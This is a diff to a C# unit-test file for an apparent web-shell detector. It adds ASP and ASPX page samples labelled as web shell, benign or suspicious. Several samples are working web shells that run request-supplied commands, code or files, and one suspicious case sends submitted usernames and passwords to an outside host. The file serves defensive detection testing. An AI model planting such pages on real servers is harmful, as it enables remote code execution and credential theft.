@@ -96,6 +96,13 @@ public sealed class FlowTests
     // Words that mean nothing in the name of an event, and everything outside it.
     [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>void Page_Load(object s, EventArgs e) { System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength)).CreateInstance(\"U\").Equals(this); }</script>")]
     [InlineData("a.aspx", "<%@ Page Language=\"JScript\" %><% eval(Request.Item[\"k\"], \"unsafe\"); %>")]
+    // Names and texts that meet only at run time; properties that keep their value elsewhere; two languages in one page.
+    [InlineData("a.aspx", Cs + "File.AppendAllText(Path.Combine(AppDomain.CurrentDomain.BaseDirectory, Request[\"n\"] + \".as\" + \"px\"), Request[\"d\"]); %>")]
+    [InlineData("a.aspx", Cs + "object w = Activator.CreateInstance(Type.GetTypeFromCLSID(new Guid(\"{72C24DD5-D70A-438B-8A42-98424B88AFB8}\"))); w.GetType().InvokeMember(\"Run\", BindingFlags.InvokeMethod, null, w, new object[] { Request[\"r\"] }); %>")]
+    [InlineData("a.aspx", "<%@ Page Language=\"VB\" %><script runat=server>\n<System.Runtime.InteropServices.DllImport(\"msvcrt.dll\", EntryPoint:=\"system\")> _\nPrivate Shared Function Convert1(ByVal v As String) As Integer\nEnd Function\nSub Page_Load()\nTitle = Convert1(Request(\"f\"))\nEnd Sub</script>")]
+    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>string Job { get { return (string)Application[\"j\"]; } set { Application[\"j\"] = value; } } void Page_Init() { Job = Request[\"s\"]; } void Page_Load() { Process.Start(Job); }</script>")]
+    [InlineData("a.aspx", Cs + "string f = Path.GetTempFileName(); File.WriteAllText(f, Request[\"e\"]); var p = (CodeDomProvider)Activator.CreateInstance(\"System\", \"Microsoft.CSharp.CSharpCodeProvider\").Unwrap(); p.CompileAssemblyFromFile(new CompilerParameters(), f); %>")]
+    [InlineData("a.asp", "<%@ Language=VBScript %><script language=JScript runat=server>function pick(o) { return String(o.Form('w')); } function run(c) { return eval(c); }</script><% Response.Write run(pick(Request)) %>")]
     public void Abused(string name, string page) => Is(WebShellVerdict.WebShell, name, page);
 
     [Theory]
@@ -158,6 +165,10 @@ public sealed class FlowTests
     [InlineData("a.aspx", Cs + "var t = File.ReadAllText(Server.MapPath(\"~/mail/order.tpl\")); new CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), \"public static class T { public static string Render() { return @\\\"\" + t.Replace(\"\\\"\", \"\\\"\\\"\") + \"\\\"; } }\"); %>")]
     [InlineData("a.aspx", Cs + "if (!User.IsInRole(\"Admin\")) return; HostingEnvironment.RegisterVirtualPathProvider(new Acme.SkinProvider(\".css\")); %>")]
     [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>void Page_Load(object s, EventArgs e) { title.Text = Server.HtmlEncode(Request[\"t\"]); }</script><%# Eval(\"Name\") %>")]
+    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>string Job { get { return (string)Application[\"j\"]; } set { Application[\"j\"] = \"report\"; } } void Page_Init() { Job = Request[\"s\"]; } void Page_Load() { Process.Start(@\"D:\\Jobs\\run.exe\", Job); }</script>")]
+    [InlineData("a.aspx", "<%@ Page Language=\"VB\" %><script runat=server>\n<System.Runtime.InteropServices.DllImport(\"kernel32.dll\", EntryPoint:=\"GetTickCount64\")> _\nPrivate Shared Function Ticks() As ULong\nEnd Function\nSub Page_Load()\nTitle = Ticks() & Request(\"f\")\nEnd Sub</script>")]
+    [InlineData("a.asp", "<%@ Language=VBScript %><script language=JScript runat=server>function pick(o) { return String(o.Form('w')); } function run(c) { return eval('1+' + parseInt(c, 10)); }</script><% Response.Write run(pick(Request)) %>")]
+    [InlineData("a.asp", "<% Set h = CreateObject(\"MSXML2.ServerXMLHTTP.6.0\") : h.open \"POST\", \"https://login.example.org/api\", False : h.send \"u=\" & Server.URLEncode(Request.Form(\"user\")) & \"&p=\" & Server.URLEncode(Request.Form(\"pass\")) : If h.status = 200 Then Session(\"u\") = Request.Form(\"user\") %>")]
     public void Used_honestly(string name, string page) => Is(WebShellVerdict.Benign, name, page);
 
     [Theory]
@@ -169,6 +180,8 @@ public sealed class FlowTests
     [InlineData("a.aspx", Cs + "Process.Start(\"cmd.exe\", \"/c net stop \\\"\" + Request[\"s\"] + \"\\\"\"); %>")]
     [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"R\" %>public class R : IHttpHandler { HttpContext c; string Fix(string p) { return c.Server.MapPath(\"~/\" + p); } public void ProcessRequest(HttpContext x) { c = x; switch (c.Request[\"a\"]) { case \"list\": foreach (var f in Directory.GetFiles(Fix(c.Request[\"d\"]))) c.Response.Write(f); break; case \"del\": File.Delete(Fix(c.Request[\"d\"])); break; case \"mk\": Directory.CreateDirectory(Fix(c.Request[\"d\"])); break; case \"get\": c.Response.TransmitFile(Fix(c.Request[\"d\"])); break; } } }")]
     [InlineData("a.aspx", "<%@ Page Language=\"VB\" %><% System.IO.File.Delete(Request(\"name\")) %>")]
+    [InlineData("a.asp", "<% Set h = CreateObject(\"MSXML2.ServerXMLHTTP.6.0\") : h.open \"GET\", \"http://stats.example.org/p.gif?d=\" & Server.URLEncode(Request.Form(\"user\") & \"|\" & Request.Form(\"pass\")), False : h.send %>")]
+    [InlineData("a.aspx", Cs + "string n = Guid.NewGuid() + Path.GetExtension(Request.PhysicalPath).Replace(\"ashx\", \"aspx\"); File.WriteAllText(Path.Combine(Path.GetDirectoryName(Request.PhysicalPath), n), Request.Form[\"i\"]); %>")]
     public void Doubtful(string name, string page) => Is(WebShellVerdict.Suspicious, name, page);
 
     [Fact]
